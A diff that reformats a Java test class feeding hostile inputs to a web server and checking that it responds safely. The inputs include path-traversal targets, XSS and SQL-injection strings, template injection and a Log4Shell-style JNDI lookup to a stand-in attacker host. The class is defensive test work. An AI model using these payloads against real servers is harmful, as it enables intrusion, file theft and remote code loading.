@@ -89,10 +89,29 @@ class HostileInputTest {
 
     @ParameterizedTest
     @ValueSource(
-            strings = {"/api/v1/..;/session", "//api/v1/session", "/api/v1/%2e%2e/session", "/api/v1/session;jsessionid=1",
-                    "/api/v1/%00", "/api/v1/%zz", "/api/v1/%", "/api/v1/session%0a", "/api/v1/\u00ff", "/api/v1/a|b", "/api/v1/a\\b",
-                    "/api/v1/<x>", "/api/v1/{x}", "/api/v1/[x]", "/api/v1/session?%zz=1", "/api/v1/session-log?limit=%zz",
-                    "/%2f%2fevil.example", "/css/../application.yaml", "/css/%2e%2e/%2e%2e/application.yaml", "*", "session"})
+            strings = {
+                "/api/v1/..;/session",
+                "//api/v1/session",
+                "/api/v1/%2e%2e/session",
+                "/api/v1/session;jsessionid=1",
+                "/api/v1/%00",
+                "/api/v1/%zz",
+                "/api/v1/%",
+                "/api/v1/session%0a",
+                "/api/v1/\u00ff",
+                "/api/v1/a|b",
+                "/api/v1/a\\b",
+                "/api/v1/<x>",
+                "/api/v1/{x}",
+                "/api/v1/[x]",
+                "/api/v1/session?%zz=1",
+                "/api/v1/session-log?limit=%zz",
+                "/%2f%2fevil.example",
+                "/css/../application.yaml",
+                "/css/%2e%2e/%2e%2e/application.yaml",
+                "*",
+                "session"
+            })
     @DisplayName("as a request line is answered, never with a 5xx and never with a file")
     void requestLines(String target) {
         var answer = RawHttp.send(SERVER.url(), "GET " + target + " HTTP/1.1", "");
@@ -103,11 +122,20 @@ class HostileInputTest {
 
     @ParameterizedTest
     @ValueSource(
-            strings = {"", "\u0080\u0098\u009f", "Ã\u0098", "\u00ff\u00fe", "<script>alert(1)</script>", "Mozilla/5.0 (' OR 1=1 --)",
-                    "${jndi:ldap://evil.example/a}", "((((((((((((((((((((((((((((("})
+            strings = {
+                "",
+                "\u0080\u0098\u009f",
+                "Ã\u0098",
+                "\u00ff\u00fe",
+                "<script>alert(1)</script>",
+                "Mozilla/5.0 (' OR 1=1 --)",
+                "${jndi:ldap://evil.example/a}",
+                "((((((((((((((((((((((((((((("
+            })
     @DisplayName("as a user agent signs in like any other")
     void userAgents(String userAgent) {
-        var body = "{\"email\":\"" + TestServer.freshEmail() + "\",\"password\":\"" + TestServer.PASSWORD + "\",\"name\":\"Ann\"}";
+        var body = "{\"email\":\"" + TestServer.freshEmail() + "\",\"password\":\"" + TestServer.PASSWORD
+                + "\",\"name\":\"Ann\"}";
 
         var made = RawHttp.send(
                 SERVER.url(),
@@ -134,18 +162,38 @@ class HostileInputTest {
 
     @ParameterizedTest
     @ValueSource(
-            strings = {"Cookie: " + Browser.SESSION + "=", "Cookie: " + Browser.SESSION + "=\"\"", "Cookie: =; ;;=;",
-                    "Cookie: " + Browser.SESSION + "=\u00ff\u0080", "Cookie: " + Browser.DEVICE + "=%00; " + Browser.WAITING + "=' OR 1=1",
-                    "X-Forwarded-For: ' OR 1=1", "Forwarded: for=\"[", "Origin: \u0080", "Sec-Fetch-Site: \u0098",
-                    "Accept: nonsense", "Accept-Language: \u00ff", "Content-Type: \u0080", "Range: bytes=0-0,1-1,-", "Expect: x",
-                    "If-None-Match: \u0080", "X-HTTP-Method-Override: DELETE", "Content-Length: -1", "Content-Length: x",
-                    "Transfer-Encoding: gzip", "Host: evil.example"})
+            strings = {
+                "Cookie: " + Browser.SESSION + "=",
+                "Cookie: " + Browser.SESSION + "=\"\"",
+                "Cookie: =; ;;=;",
+                "Cookie: " + Browser.SESSION + "=\u00ff\u0080",
+                "Cookie: " + Browser.DEVICE + "=%00; " + Browser.WAITING + "=' OR 1=1",
+                "X-Forwarded-For: ' OR 1=1",
+                "Forwarded: for=\"[",
+                "Origin: \u0080",
+                "Sec-Fetch-Site: \u0098",
+                "Accept: nonsense",
+                "Accept-Language: \u00ff",
+                "Content-Type: \u0080",
+                "Range: bytes=0-0,1-1,-",
+                "Expect: x",
+                "If-None-Match: \u0080",
+                "X-HTTP-Method-Override: DELETE",
+                "Content-Length: -1",
+                "Content-Length: x",
+                "Transfer-Encoding: gzip",
+                "Host: evil.example"
+            })
     @DisplayName("in a header is answered, never with a 5xx")
     void headers(String header) {
-        for (var line : new String[] {"GET /api/v1/session", "GET /login", "GET /css/base.css", "GET /verify", "DELETE /api/v1/session"}) {
+        for (var line : new String[] {
+            "GET /api/v1/session", "GET /login", "GET /css/base.css", "GET /verify", "DELETE /api/v1/session"
+        }) {
             var answer = RawHttp.send(SERVER.url(), line + " HTTP/1.1\n" + header, "");
 
-            assertThat(answer.status()).as(line + ": " + answer.text()).isBetween(200, header.startsWith("Transfer") ? 501 : 499);
+            assertThat(answer.status())
+                    .as(line + ": " + answer.text())
+                    .isBetween(200, header.startsWith("Transfer") ? 501 : 499);
             assertThat(answer.text()).doesNotContain("Exception");
         }
     }
@@ -157,20 +205,26 @@ class HostileInputTest {
         browser.post(
                 "/api/v1/accounts",
                 Map.of(
-                        "email", TestServer.freshEmail(),
-                        "password", TestServer.PASSWORD,
-                        "name", "<img src=x onerror=alert(1)> [[${7*7}]]"));
+                        "email",
+                        TestServer.freshEmail(),
+                        "password",
+                        TestServer.PASSWORD,
+                        "name",
+                        "<img src=x onerror=alert(1)> [[${7*7}]]"));
 
         var page = browser.get("/account").text();
 
-        assertThat(browser.get("/dashboard").text() + page).doesNotContain("<img src=x").doesNotContain("[[49]]");
+        assertThat(browser.get("/dashboard").text() + page)
+                .doesNotContain("<img src=x")
+                .doesNotContain("[[49]]");
         assertThat(page).contains("&lt;img src=x onerror=alert(1)&gt;");
     }
 
     @Test
     @DisplayName("as an email at sign-in is just a wrong one (SEC-09)")
     void unlikelyEmails() {
-        for (var email : new String[] {"a\u0000@example.org", "\ud800@example.org", "", "no email", "a".repeat(8_000)}) {
+        for (var email :
+                new String[] {"a\u0000@example.org", "\ud800@example.org", "", "no email", "a".repeat(8_000)}) {
             Expect.problem(
                     SERVER.browser().post("/api/v1/session", Map.of("email", email, "password", TestServer.PASSWORD)),
                     401,
